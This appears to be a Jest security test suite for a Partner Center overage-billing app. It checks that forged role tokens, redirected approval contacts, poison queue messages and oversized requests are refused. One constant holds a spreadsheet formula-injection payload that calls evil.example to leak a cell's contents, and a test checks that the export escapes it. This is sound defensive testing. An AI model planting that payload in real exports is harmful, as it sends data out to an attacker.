// Partners trying what they must not, as issue 18 observed it against the
// demo world: redirecting another party's approval link, tokens that claim a
// role Partner Center does not give, queue messages that can never succeed,
// live reads that dodge the refresh limit, a reseller dropped from a disable,
// formulas in a reconciliation file, and a huge unauthenticated token request.
import { parse } from 'csv-parse/sync';
import { AppHost, CUSTOMERS, startAppHost } from '../helpers/appHost';
import { runMonth, SUB_7, SUB_8 } from '../helpers/accruals';
import { handoverClient } from '../helpers/handovers';

let h: AppHost;
let c: ReturnType<typeof handoverClient>;
const LUCERNE = CUSTOMERS.lucerne; // Contoso (1001) holds the assignment (set outside the app); Litware (1002) also sells an overage SKU there
const GDI = CUSTOMERS.graphicDesign; // Contoso's overage on SUB_14 (set outside the app); renamed to a formula below
const CONTOSO = 'ops@contoso-telecom.example';
const LITWARE = 'csp@litware-voice.example';
const ATTACKER = 'attacker@litware-voice.example';
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&B2,"Lucerne")';
let served: string | undefined;

beforeAll(async () => {
    h = await startAppHost({
        edit: (world) => {
            const gdi = world.customers.find((x: { tenantId: string }) => x.tenantId === GDI);
            gdi.name = FORMULA_NAME;
            gdi.credits = null;
        },
    });
    c = handoverClient(h);
    served = process.env.SERVED_PARTNERS;
});
afterAll(async () => { await h.stop(); });
afterEach(async () => {
    if (served === undefined) delete process.env.SERVED_PARTNERS;
    else process.env.SERVED_PARTNERS = served;
    await h.call('DELETE', '/simulator/faults');
});

const operator = () => ({ 'x-functions-key': h.host.systemKey });
const expectProblem = (res: { status: number; json: any }, status: number, code: string) => expect([res.status, res.json?.code]).toEqual([status, code]);

/** A token whose roles claim says whatever its holder asked the issuer for. */
const tokenOf = async (partnerId: string, upn: string, roles: string[]) => (await h.call('POST', '/simulator/token', { partnerId, upn, roles })).json.access_token as string;
const asToken = (token: string) => (method: string, path: string, body?: unknown, headers: Record<string, string> = {}) =>
    h.call(method, path, body, { authorization: `Bearer ${token}`, ...headers });

const sendTo = (queue: string, body: unknown, props: Record<string, string>) =>
    h.call('POST', `/admin/queues/${queue}/messages`, { body, applicationProperties: props }, operator());
/** The reason a message was set aside on `<queue>-rejected` with, once it is there. */
async function rejection(queue: string): Promise<{ deadLetterReason: string; deadLetterErrorDescription: string; originalBody: any }> {
    await c.poll(`a message on ${queue}-rejected`, async () => ((await h.call('GET', `/admin/queues/${queue}-rejected`, undefined, operator())).json.active > 0 ? true : undefined));
    const kept = await h.host.queues.receive(`${queue}-rejected`);
    return kept!.body as any;
}
const deadLetters = async (queue: string) => (await h.call('GET', `/admin/queues/${queue}/deadletters`, undefined, operator())).json;

describe('1. approval links go to the contacts Partner Center holds', () => {
    // Lucerne from Contoso to Litware, asked by either of the two
    const askLucerne = (agent: 'contosoAdmin' | 'litwareAdmin', contacts: Record<string, string>) =>
        c.ask(LUCERNE, { toPartnerId: '1002', azureEntitlementId: SUB_8, contacts }, agent);

    test('Litware, the new partner, cannot send Contoso\'s invitation to itself', async () => {
        const since = new Date().toISOString();
        const res = await askLucerne('litwareAdmin', { currentPartner: ATTACKER });
        expectProblem(res, 400, 'contact-not-accepted');
        expect(res.json.detail).toContain('1001');
        await new Promise((r) => setTimeout(r, 300));
        expect((await c.mailbox()).filter((m) => m.receivedAt >= since)).toEqual([]);
    });

    test('Contoso, the current partner, cannot make Litware the payer by answering for it', async () => {
        const res = await askLucerne('contosoAdmin', { newPartner: ATTACKER });
        expectProblem(res, 400, 'contact-not-accepted');
        expect(res.json.detail).toContain('1002');
    });

    test('without contacts, each served partner\'s legal contact gets its own invitation', async () => {
        const res = await c.ask(LUCERNE, { toPartnerId: '1002', azureEntitlementId: SUB_8 }, 'litwareAdmin');
        expect(res.status).toBe(202);
        await c.links(res.json.id, { currentPartner: CONTOSO, newPartner: LITWARE, customer: 'it@lucerne-publishing.example' });
        expect((await h.as('litwareAdmin')('DELETE', new URL(res.headers.get('location')!).pathname)).status).toBe(200);
        await c.ended(res.headers.get('location')!, 'litwareAdmin');
    });

    test('a contact given for a partner the deployment does not serve is shown to all three parties as given by the requester', async () => {
        process.env.SERVED_PARTNERS = '{}'; // Litware asks; Contoso is not served, so its contact must be given
        const res = await c.ask(LUCERNE, { toPartnerId: '1002', azureEntitlementId: SUB_8, contacts: { currentPartner: 'overage@contoso.example' } }, 'litwareAdmin');
        expect(res.status).toBe(202);
        expect(res.json.parties.currentPartner).toMatchObject({ partnerId: '1001', served: false, contact: 'overage@contoso.example', contactGivenBy: '1002' });
        const contacts = { currentPartner: 'overage@contoso.example', newPartner: LITWARE, customer: 'it@lucerne-publishing.example' };
        await c.links(res.json.id, contacts);
        const invites = await c.mailsSince(res.json.requestedAt, Object.values(contacts), /./);
        for (const mail of Object.values(invites)) expect(mail.text).toMatch(/overage@contoso\.example, as given by admin@litware-voice\.example of Litware Voice/);
        expect((await h.as('litwareAdmin')('DELETE', new URL(res.headers.get('location')!).pathname)).status).toBe(200);
        await c.ended(res.headers.get('location')!, 'litwareAdmin');
    });
});

describe('4 and 11. roles come from Partner Center, at every entry', () => {
    const CSV = 'UsageId,Start Time,Duration Seconds,Call Type,Number Type,Domestic/International,Destination Dialed,User Location,Currency,Capability\nx1,2026-11-02T10:00:00Z,28800,user_out,user,Domestic,BE,BE,EUR,MCOPSTN1\n';
    const pretenders = [
        ['a sales agent', 'sales@contoso-telecom.example'],
        ['a helpdesk agent', 'helpdesk@contoso-telecom.example'],
        ['a user Partner Center does not know', 'intruder@contoso-telecom.example'],
    ] as const;

    test.each(pretenders)('%s whose token claims AdminAgent changes nothing: 403 role-not-permitted everywhere', async (_who, upn) => {
        const as = asToken(await tokenOf('1001', upn, ['AdminAgent']));
        expectProblem(await as('POST', `/api/customers/${LUCERNE}/usage`, CSV, { 'content-type': 'text/csv' }), 403, 'role-not-permitted');
        expectProblem(await as('POST', '/api/accruals/2026-11'), 403, 'role-not-permitted');
        expectProblem(await as('POST', `/api/customers/${LUCERNE}/overage/handovers`, { service: 'PhoneServices', toPartnerId: '1002', azureEntitlementId: SUB_8 }), 403, 'role-not-permitted');
        expectProblem(await as('POST', `/api/customers/${CUSTOMERS.fabrikam}/overage/enablements`, { service: 'PhoneServices', azureEntitlementId: 'new' }), 403, 'role-not-permitted');
        expectProblem(await as('PUT', `/api/v1/customers/${LUCERNE}/subscriptions/overage`, { azureEntitlementId: SUB_7, overageEnabled: false }), 403, 'role-not-permitted');
        const since = new Date().toISOString();
        await new Promise((r) => setTimeout(r, 300));
        expect((await c.mailbox()).filter((m) => m.receivedAt >= since)).toEqual([]);
    });

    test('a helpdesk agent whose token claims SalesAgent cannot read either', async () => {
        const as = asToken(await tokenOf('1001', 'helpdesk@contoso-telecom.example', ['SalesAgent']));
        expectProblem(await as('GET', `/api/customers/${LUCERNE}/overage`), 403, 'role-not-permitted');
        expectProblem(await as('GET', `/api/customers/${LUCERNE}/overage/handovers`), 403, 'role-not-permitted');
        expectProblem(await as('GET', '/api/customers'), 403, 'role-not-permitted');
        expectProblem(await as('GET', '/api/partners/1001/reconciliation/2026-11.csv'), 403, 'role-not-permitted');
    });

    test('a sales agent who claims AdminAgent on each queue is rejected once with role-not-permitted: no handover, no usage, no run', async () => {
        const props = { partnerId: '1001', agentUpn: 'sales@contoso-telecom.example', agentRoles: 'AdminAgent' };
        await sendTo('overage-handover-requests', { customerTenantId: LUCERNE, service: 'PhoneServices', toPartnerId: '1002', azureEntitlementId: SUB_8 }, props);
        expect(await rejection('overage-handover-requests')).toMatchObject({ deadLetterReason: 'role-not-permitted' });
        await sendTo('pstn-usage', { customerTenantId: LUCERNE, rows: [{ UsageId: 'q1', 'Start Time': '2026-11-02T10:00:00Z', 'Duration Seconds': 60, 'Call Type': 'user_out', 'Number Type': 'user', 'Domestic/International': 'Domestic', 'Destination Dialed': 'BE', 'User Location': 'BE', Currency: 'EUR', Capability: 'MCOPSTN1' }] }, props);
        expect(await rejection('pstn-usage')).toMatchObject({ deadLetterReason: 'role-not-permitted' });
        await sendTo('overage-enablement-requests', { customerTenantId: CUSTOMERS.fabrikam, service: 'PhoneServices', azureEntitlementId: 'new' }, props);
        expect(await rejection('overage-enablement-requests')).toMatchObject({ deadLetterReason: 'role-not-permitted' });
        expect((await h.as('contosoAdmin')('GET', `/api/customers/${LUCERNE}/overage/handovers`)).json.items.filter((x: any) => x.status === 'awaiting-approvals')).toEqual([]);
        expect((await h.as('contosoAdmin')('GET', `/api/customers/${CUSTOMERS.fabrikam}/overage/runs`)).json.items).toEqual([]);
    });
});

describe('8. queue messages that can never succeed go once to the rejected queue', () => {
    const contoso = { partnerId: '1001', agentUpn: 'admin@contoso-telecom.example', agentRoles: 'AdminAgent' };

    test.each([
        ['an unknown customer', '10000000-0000-4000-8000-0000000000ff'],
        ['a customer of another partner only', CUSTOMERS.wideWorld],
    ])('a handover request for %s: customer-not-found, not retried', async (_what, customer) => {
        await sendTo('overage-handover-requests', { customerTenantId: customer, service: 'PhoneServices', toPartnerId: '1002', azureEntitlementId: SUB_8 }, contoso);
        expect(await rejection('overage-handover-requests')).toMatchObject({ deadLetterReason: 'customer-not-found', originalBody: { customerTenantId: customer } });
        expect(await deadLetters('overage-handover-requests')).toEqual([]);
    });

    test('an enablement request for an unknown customer: customer-not-found, not retried', async () => {
        await sendTo('overage-enablement-requests', { customerTenantId: '10000000-0000-4000-8000-0000000000fe', service: 'PhoneServices', azureEntitlementId: 'new' }, contoso);
        expect(await rejection('overage-enablement-requests')).toMatchObject({ deadLetterReason: 'customer-not-found' });
        expect(await deadLetters('overage-enablement-requests')).toEqual([]);
    });
});

describe('9. live reads of Partner Center share the limit', () => {
    const partnerCenterDown = () => h.call('POST', '/simulator/faults', { faults: [{ match: { pathPattern: '^/v1/' }, kind: 'status500', times: 1000 }] });

    test('diagnostics read Partner Center at most once per refresh window; in between, the last answer, saying when it was read', async () => {
        expect((await h.as('contosoSales')('GET', `/api/customers/${LUCERNE}/overage`)).status).toBe(200); // the console opens the customer first
        const first = await h.as('contosoSales')('GET', `/api/customers/${LUCERNE}/overage/diagnostics`);
        expect(first.status).toBe(200);
        await partnerCenterDown();
        const second = await h.as('contosoSales')('GET', `/api/customers/${LUCERNE}/overage/diagnostics`);
        expect(second.status).toBe(200);
        expect(second.json).toMatchObject({ ...first.json, asOf: first.json.asOf, servedFrom: 'cache' });
        expect(first.json.servedFrom).toBe('partner-center');
    });

    test('the Partner Center-shaped GET answers from the read model once it was read', async () => {
        const first = await h.as('contosoSales')('GET', `/api/v1/customers/${GDI}/subscriptions/overage`);
        expect(first.status).toBe(200);
        expect(first.json.items[0]).toMatchObject({ partnerId: '1001', overageEnabled: true, type: 'PhoneServices' });
        await partnerCenterDown();
        const second = await h.as('contosoSales')('GET', `/api/v1/customers/${GDI}/subscriptions/overage`);
        expect([second.status, second.json]).toEqual([200, first.json]);
    });
});

describe('10. the Partner Center-shaped PUT checks the reseller both ways', () => {
    test('a direct partner naming a reseller in a disable is refused, as in an enable', async () => {
        const body = { azureEntitlementId: SUB_7, partnerId: '3001' };
        expectProblem(await h.as('contosoAdmin')('PUT', `/api/v1/customers/${LUCERNE}/subscriptions/overage`, { ...body, overageEnabled: false }), 403, 'not-reseller-of-provider');
        expectProblem(await h.as('contosoAdmin')('PUT', `/api/v1/customers/${LUCERNE}/subscriptions/overage`, { ...body, overageEnabled: true }), 403, 'not-reseller-of-provider');
    });

    test('a provider naming a partner that is not its reseller in a disable is refused', async () => {
        expectProblem(await h.as('tailspinAdmin')('PUT', `/api/v1/customers/${CUSTOMERS.wideWorld}/subscriptions/overage`, { azureEntitlementId: null, overageEnabled: false, partnerId: '1002' }), 403, 'not-reseller-of-provider');
    });
});

describe('3. exports neutralise formulas', () => {
    test('a customer name from Partner Center that is a formula reaches the reconciliation file as text', async () => {
        const rates = { currency: 'EUR', effectiveFrom: '2026-01-01', rates: [{ meterId: 'tc-gb', meterName: '+Calls to GB', meterCategory: 'Teams Calling', destination: 'GB', perMinute: 0.04, connectionFee: 0.01 }] };
        expect((await h.call('PUT', '/api/rates', rates, operator())).status).toBe(200);
        const csv = 'UsageId,Start Time,Duration Seconds,Call Type,Number Type,Domestic/International,Destination Dialed,User Location,Currency,Capability\ng1,2026-11-05T08:00:00Z,61,user_out,user,International,United Kingdom,IE,EUR,MCOPSTN1\n';
        expect((await h.as('contosoAdmin')('POST', `/api/customers/${GDI}/usage`, csv, { 'content-type': 'text/csv' })).status).toBe(200);
        await runMonth(h, '2026-11');
        const file = await h.as('contosoAdmin')('GET', '/api/partners/1001/reconciliation/2026-11.csv');
        expect(file.status).toBe(200);
        const lines = (parse(file.text, { columns: true }) as Array<Record<string, string>>).filter((l) => l.CustomerId === GDI);
        expect(lines.length).toBe(2);
        for (const line of lines) {
            expect(line.CustomerName).toBe(`'${FORMULA_NAME}`);
            expect(line.MeterName).toMatch(/^'\+Calls to GB/);
            expect(line.UnitPrice).toMatch(/^\d/);
        }
    }, 90_000);
});

describe('12. the simulator\'s token endpoint', () => {
    test('refuses a body larger than any token request before reading it whole', async () => {
        const res = await fetch(`${h.url}/simulator/token`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: `{"upn":"${'x'.repeat(5 * 1024 * 1024)}"}` });
        expect(res.status).toBe(413);
    });
});
